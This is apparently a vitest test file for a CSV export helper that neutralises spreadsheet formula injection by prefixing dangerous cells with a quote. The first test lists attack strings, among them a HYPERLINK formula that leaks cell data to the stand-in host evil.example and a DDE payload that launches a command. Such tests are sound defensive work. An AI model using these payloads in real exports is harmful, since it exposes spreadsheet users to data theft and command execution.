import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, spreadsheetCsv } from './spreadsheet-csv.js';

describe('CSV for spreadsheets', () => {
  it('keeps every cell that starts a formula from running, whatever starts it', () => {
    for (const attack of [
      '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ]) {
      expect(neutraliseCell(attack)).toBe(`'${attack}`);
    }
  });

  it('leaves text and plain numbers as they are, negative ones included', () => {
    for (const cell of ['Ambassade à Paris', '-1500', '-12.5', '12,5', '', '2026-03-10', 'a=b']) {
      expect(neutraliseCell(cell)).toBe(cell);
    }
  });

  it('writes RFC 4180 with a byte-order mark and CRLF, every cell neutralised, header included', () => {
    const csv = spreadsheetCsv(
      ['Mission', '=Commentaire'],
      [
        ['fr-paris', '=1+1'],
        ['cm-yaounde', 'Reçu, lu'],
      ],
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    expect(parse(csv.slice(1))).toEqual([
      ['Mission', "'=Commentaire"],
      ['fr-paris', "'=1+1"],
      ['cm-yaounde', 'Reçu, lu'],
    ]);
  });
});
